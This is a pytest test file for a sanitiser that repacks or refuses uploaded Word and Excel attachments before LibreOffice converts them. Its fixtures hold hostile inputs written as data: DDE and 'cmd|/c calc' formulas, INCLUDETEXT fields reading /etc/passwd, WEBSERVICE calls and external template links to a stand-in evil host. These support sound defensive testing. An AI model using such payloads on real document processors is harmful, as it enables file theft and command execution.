"""Word and Excel files that become attachments: packed anew before LibreOffice sees them, or refused with the reason."""

from __future__ import annotations

import html
import io
import zipfile

import pytest

from qianyue.documents import attached
from qianyue.documents.attached import UploadRefused, attachable
from qianyue.documents.own import office
from qianyue.uploads import repack_office
from qianyue.uploads.zipped import OLE
from tests.employers.texts import docx, with_parts
from tests.uploads.hostile import photograph
from tests.uploads.pdfa2b import problems

SAID = "公司不设罚款。"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relation(kind: str, target: str, mode: str = "Internal") -> bytes:
    one = f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'.encode()


def related(kind: str, target: str, mode: str = "Internal", **more: bytes) -> bytes:
    return with_parts(docx(SAID), word___rels__document_dot_xml_dot_rels=relation(kind, target, mode), **more)


def field(instruction: str) -> bytes:
    return docx(SAID, inside=f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def xlsx(cells: str, **more: str) -> bytes:
    """A workbook of one sheet."""
    written = io.BytesIO()
    parts = {
        "[Content_Types].xml": "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}">'
        '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>'
        "<definedNames><definedName name='x'>'file:///etc/[passwd]a'!A1</definedName></definedNames></workbook>",
        "xl/_rels/workbook.xml.rels": relation("worksheet", "worksheets/sheet1.xml").decode().replace("rId9", "rId1"),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>',
    } | more
    with zipfile.ZipFile(written, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def refused(paper: bytes) -> str:
    with pytest.raises(UploadRefused) as problem:
        attachable(paper)
    return str(problem.value)


@pytest.mark.office
def test_it_works() -> None:
    made = attachable(docx("员工手册", SAID))
    assert (made.kind, made.pages, made.drawn) == ("docx", 1, ())
    assert SAID in made.words
    assert problems(made.pdf) == []


@pytest.mark.office
def test_of_a_sheet_the_results_stay_and_the_formulas_go() -> None:
    cells = '<c r="A1"><f>WEBSERVICE("http://evil.example.invalid/")</f><v>4500</v></c>'
    made = attachable(xlsx(cells + '<c r="B1" t="inlineStr"><is><t>元，月工资</t></is></c>'))
    assert (made.kind, made.pages) == ("xlsx", 1)
    assert "4500" in made.words
    assert problems(made.pdf) == []


def test_formulas_and_names_never_reach_the_program() -> None:
    packed = repack_office(xlsx('<c r="A1"><f>WEBSERVICE("http://evil.example.invalid/")</f><v>4500</v></c>'))
    assert packed
    with zipfile.ZipFile(io.BytesIO(packed[1])) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"4500" in whole
    for word in (b"WEBSERVICE", b"evil", b"passwd"):
        assert word not in whole


NAMES = "<definedNames><definedName name='_xlnm.Print_Area' localSheetId='0'>{0}</definedName></definedNames></workbook>"


def packed_sheet(rules: str = "", printed: str = "a!$A$1:$B$2") -> str:
    """What is left of a sheet with these rules and this print area."""
    plain = xlsx("")
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    workbook = workbook[: workbook.index("<definedNames>")] + NAMES.format(printed)
    sheet = sheet.replace("</worksheet>", f"{rules}</worksheet>")
    packed = repack_office(xlsx("", **{"xl/workbook.xml": workbook, "xl/worksheets/sheet1.xml": sheet}))
    assert packed
    with zipfile.ZipFile(io.BytesIO(packed[1])) as archive:
        return html.unescape((archive.read("xl/workbook.xml") + archive.read("xl/worksheets/sheet1.xml")).decode())


def ruled(inside: str) -> str:
    rule = f'<cfRule type="cellIs" dxfId="0" priority="1">{inside}</cfRule>'
    return f'<conditionalFormatting sqref="A1">{rule}</conditionalFormatting>'


@pytest.mark.parametrize(
    "inside",
    [
        "<formula>INDIRECT(A1)</formula>",
        "<formula>1</formula><formula>Evil(2)</formula>",
        "<formula>cmd|'/c calc'</formula>",
        '<colorScale><cfvo type="formula" val="A1"/><color rgb="FF000000"/></colorScale>',
        '<dataBar><cfvo type="num" val="INDIRECT(A1)"/><color rgb="FF000000"/></dataBar>',
    ],
)
def test_colours_that_call_something_are_gone(inside: str) -> None:
    assert "conditionalFormatting" not in packed_sheet(ruled(inside))


def test_colours_that_compare_with_a_value_stay() -> None:
    assert "<formula>4500</formula>" in packed_sheet(ruled("<formula>4500</formula>"))
    assert 'type="percent"' in packed_sheet(ruled('<colorScale><cfvo type="percent" val="10"/><color rgb="FF0"/></colorScale>'))


@pytest.mark.parametrize("printed", ["a!$A$1:$B$2", "'工资表 (2)'!$A$1:$B$2,工资表!$C:$D", "'it''s'!$1:$2", "$A$1"])
def test_what_is_printed_stays(printed: str) -> None:
    assert f">{printed}</definedName>" in packed_sheet(printed=printed)


@pytest.mark.parametrize(
    "printed",
    [
        "INDIRECT(A1)",
        "OFFSET(a!$A$1,0,0)",
        "'a'!A1,INDIRECT(&quot;b&quot;)",
        "&quot;'&quot;&amp;INDIRECT(A1)&amp;&quot;'&quot;",
        "'file:///etc/passwd'#$a.A1",
        "[1]a!$A$1",
        "'http://evil.example.invalid/[b]a'!A1",
        "a!$A$1<?x?>+INDIRECT(A1)",
    ],
)
def test_a_print_area_that_calls_or_fetches_is_gone(printed: str) -> None:
    assert "<definedName " not in packed_sheet(printed=printed)


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


def char(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def said(instruction: str) -> str:
    return f"<w:instrText>{instruction}</w:instrText>"


FETCHING = said("INCLUDETEXT &quot;/etc/passwd&quot;")
PAGE = said(" PAGE ")


@pytest.mark.parametrize(
    "runs",
    [
        run(char("begin") + PAGE + char("end") + char("begin") + FETCHING + char("end")),
        run(char("begin")) + run(PAGE) + run(char("end") + char("begin") + FETCHING),
        run(char("begin") + PAGE + char("end") + char("begin")) + run(FETCHING),
        run(char("begin") + said("")) + run(FETCHING),
        run(char("begin") + said(" ") + FETCHING),
        run(char("begin")) + run('<x:instrText xmlns:x="urn:x">PAGE</x:instrText>') + run(FETCHING),
        run(char("begin") + "<w:rPr>" + PAGE + "</w:rPr>") + run(FETCHING),
        '<w:fldSimple xmlns:x="urn:x" x:instr="PAGE" w:instr="INCLUDETEXT a"/>',
    ],
)
def test_a_field_cannot_hide_behind_another(runs: str) -> None:
    assert "从别处取内容" in refused(docx(SAID, inside=f"<w:p>{runs}</w:p>"))


def test_a_field_may_be_said_in_several_pieces() -> None:
    pieces = run(char("begin")) + run(said(" HYPER")) + run(char("end"))
    assert "从别处取内容" in refused(docx(SAID, inside=f"<w:p>{pieces}</w:p>"))
    whole = (
        run(char("begin"))
        + run(said(' HYPERLINK "http') + said('://a.example.invalid"'))
        + run(said(" \\o a"))
        + run(char("end"))
    )
    numbers = run(char("begin") + PAGE + char("separate") + "<w:t>1</w:t>" + char("end"))
    assert repack_office(docx(SAID, inside=f"<w:p>{whole}{numbers}</w:p>"))


def test_without_the_program_the_file_is_refused_with_advice(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "available", lambda: False)
    assert refused(docx(SAID)) == attached.NO_OFFICE
    assert "导出为 PDF" in attached.NO_OFFICE


@pytest.mark.parametrize(
    ("paper", "why"),
    [
        (related("image", "http://evil.example.invalid/a.png", "External"), "引用了外部"),
        (related("attachedTemplate", "http://evil.example.invalid/a.dotm", "External"), "引用了外部"),
        (related("chart", "charts/chart1.xml"), "图表、图形"),
        (related("oleObject", "embeddings/a.bin"), "宏、控件或嵌入"),
        (with_parts(docx(SAID), word__vbaProject_dot_bin=b"x"), "宏、控件或嵌入"),
        (field("INCLUDETEXT &quot;/etc/passwd&quot;"), "从别处取内容"),
        (field("DDEAUTO c:\\cmd.exe"), "从别处取内容"),
        (field("LINK Excel.Sheet a"), "从别处取内容"),
        (docx(SAID, inside="<w:p><w:ins><w:r><w:t>押金</w:t></w:r></w:ins></w:p>"), "没有接受的修订"),
        (docx(SAID, inside="<w:object/>"), "嵌入的对象"),
        (with_parts(docx(SAID), word__document_dot_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "DTD"),
        (with_parts(docx(SAID), word__media__a_dot_emf=b"emf"), "不能识别的图片"),
        (with_parts(docx(SAID), word__styles_dot_xml=b"<a>" + b" " * (9 << 20) + b"</a>"), "解压后过大"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
        (OLE + bytes(600), "旧版的 Office"),
        (b"PK\x03\x04" + bytes(100), "损坏"),
        (xlsx("", **{"xl/_rels/workbook.xml.rels": relation("externalLink", "externalLinks/a.xml").decode()}), "图表、图形"),
    ],
)  # fmt: skip
def test_what_fetches_runs_or_would_be_lost_is_refused(paper: bytes, why: str) -> None:
    assert why in refused(paper)


def test_pictures_inside_are_encoded_anew() -> None:
    sent = photograph(comment=b"somebody@example.invalid")
    assert b"somebody" in sent
    packed = repack_office(related("image", "media/image1.jpeg", word__media__image1_dot_jpeg=sent))
    assert packed
    with zipfile.ZipFile(io.BytesIO(packed[1])) as archive:
        assert b"somebody" not in archive.read("word/media/image1.jpeg")


def test_a_zip_of_something_else_is_no_attachment() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("a.txt", "b")
    assert "不能识别这种文件" in refused(written.getvalue())
